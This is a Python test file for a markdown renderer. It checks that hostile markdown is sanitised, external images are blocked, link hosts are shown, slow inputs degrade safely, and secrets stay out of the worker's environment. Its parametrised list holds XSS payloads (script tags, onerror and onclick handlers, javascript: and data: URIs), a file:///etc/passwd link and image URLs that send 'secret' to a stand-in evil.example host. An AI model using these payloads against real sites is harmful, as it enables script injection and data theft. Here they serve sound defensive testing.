"""HTML of hostile texts: no element and no address comes through that the rules do not name."""

from __future__ import annotations

import asyncio
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from tests.growth import within

from quire.server import markup
from quire.server.markup import Renderer, highlight, render_markdown

PIXEL = "data:image/png;base64,iVBORw0KGgo="
ALLOWED = {
    *("p", "em", "strong", "s", "code", "pre", "span", "a", "img", "ul", "ol", "li", "blockquote", "hr", "br"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "rel", "target"}, "img": {"src", "alt"}, "ol": {"start"}}


class Seen(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.addresses: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs}
        if tag not in ALLOWED or names - ATTRIBUTES.get(tag, set()) - {"class"}:
            self.wrong.append(f"{tag} {sorted(names)}")
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/)",
        "[x](/api/v1/runs)",
        "![x](http://evil.example/?q=secret)",
        "![x](//evil.example/a.png)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "[![x](http://evil.example/a.png)](http://evil.example)",
        "<http://evil.example/?secret>",
        "[x]: http://evil.example\n\n[x]",
        "```html\n<script>alert(1)</script>\n```",
        '```x" onclick="alert(1)\ncode\n```',
        "a|b\n-:|:-:\n1|2",
        "a|b\n-|-\n<b>|<i onmouseover=alert(1)>",
        '[x](http://evil.example/"onclick="alert(1))',
        '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
        "<details open ontoggle=alert(1)>",
        "\\<img src=x>",
    ],
)
def test_hostile_markdown_is_harmless(text: str) -> None:
    seen = Seen(render_markdown(text))
    assert seen.wrong == []
    for address in seen.addresses:
        assert re.match(r"https?://|mailto:|data:image/png;base64,", address), address
    assert not [one for one in re.findall(r'<img src="([^"]*)', render_markdown(text)) if not one.startswith("data:")]


def test_an_image_from_elsewhere_is_named_and_not_loaded() -> None:
    html = render_markdown("![chart](http://evil.example/?q=secret)")
    assert "image from evil.example — not loaded" in html
    assert "<img" not in html
    assert f'<img src="{PIXEL}" alt="dot">' in render_markdown(f"![dot]({PIXEL})")


def test_a_link_says_where_it_leads() -> None:
    html = render_markdown("[your bank](https://evil.example/login) and [me](mailto:a@b.example)")
    assert 'rel="noopener noreferrer nofollow" target="_blank"' in html
    assert '<span class="link-host">(evil.example)</span>' in html
    assert "(a@b.example)" in html
    assert "(xn--80ak6aa92e.com)" in render_markdown("[apple](https://аррӏе.com/)")


def test_ordinary_markdown_reads_as_such() -> None:
    html = render_markdown(
        "# One\n\n- **a** and `b`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(): ...\n```\n"
    )
    assert "<h1>One</h1>" in html and "<strong>a</strong>" in html and "<td>1</td>" in html
    assert '<span class="hl-k">def</span>' in html


def test_code_has_classes_and_unknown_code_is_escaped() -> None:
    assert '<span class="hl-kd">const</span>' in highlight("const a = '<b>';", "javascript")
    assert "&lt;b&gt;" in highlight("<b>", "klingon")
    assert Seen(highlight("</code><script>1</script>", "typescript")).wrong == []


def test_long_and_slow_texts_end_as_plain_text(monkeypatch: pytest.MonkeyPatch) -> None:
    long = render_markdown("a *word*\n\n" * 60_000)
    assert "more characters are not shown here" in long
    monkeypatch.setattr(markup, "MOST_SECONDS", 0.0)
    with within(1.5):
        html = render_markdown("<b> one **more** time\n\n" * 15_000)
    assert "&lt;b&gt; one **more** time" in html


def test_a_fence_is_never_cut_in_two() -> None:
    text = "```\n" + "line\n\n" * 8_000 + "```\n\nafter **it**\n"
    html = render_markdown(text)
    assert html.count("<pre") == 1
    assert "<strong>it</strong>" in html


def test_code_over_4_kb_has_no_colours() -> None:
    """security N5: the lexer of Java takes quadratic time."""
    with within(1.0):
        assert "hl-" not in highlight("a\n" * 50_000, "java")


async def markdown(renderer: Renderer, text: str) -> str | None:
    return (await renderer.render([("markdown", text)]))["markdown", text]


async def test_a_text_is_rendered_once_in_a_process_without_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_API_KEY", "sk-secret")
    renderer = Renderer()
    try:
        first = await markdown(renderer, "kept *once*")
        assert first == "<p>kept <em>once</em></p>\n"
        process = renderer._process
        assert process is not None
        if Path("/proc").exists():
            assert b"sk-secret" not in Path(f"/proc/{process.pid}/environ").read_bytes()
        process.kill()
        await process.wait()
        assert await markdown(renderer, "kept *once*") is first
        assert await markdown(renderer, "after *a crash*") == "<p>after <em>a crash</em></p>\n"
    finally:
        await renderer.close()


async def test_a_text_that_takes_too_long_is_plain_and_does_not_cost_again(monkeypatch: pytest.MonkeyPatch) -> None:
    """security N5: four KB of Java are slow, and a text may have many."""
    slow = ("```java\n" + "a\n" * 2000 + "```\n\n") * 8
    monkeypatch.setattr(markup, "DEADLINE_SECONDS", 0.5)
    renderer = Renderer()
    try:
        jobs = [("markdown", slow), ("question", f"*x* {slow}"), ("markdown", "fine *text*")]
        with within(30.0):  # the start of Python
            rendered = await renderer.render(jobs)
        assert str(rendered[jobs[0]]).startswith("<pre>```java\na\n")
        assert (rendered[jobs[1]], rendered[jobs[2]]) == (None, "<pre>fine *text*</pre>")
        assert renderer._process is None
        with within(0.2):
            assert await markdown(renderer, slow) == rendered[jobs[0]]
        # Requests for the same text wait for one rendering of it.
        other = slow + "more"
        with within(20.0):
            both = await asyncio.gather(*(markdown(renderer, other) for _ in range(20)))
        assert set(both) == {f"<pre>{other}</pre>"}
        assert await markdown(renderer, "fine *text*") == "<p>fine <em>text</em></p>\n"
    finally:
        await renderer.close()
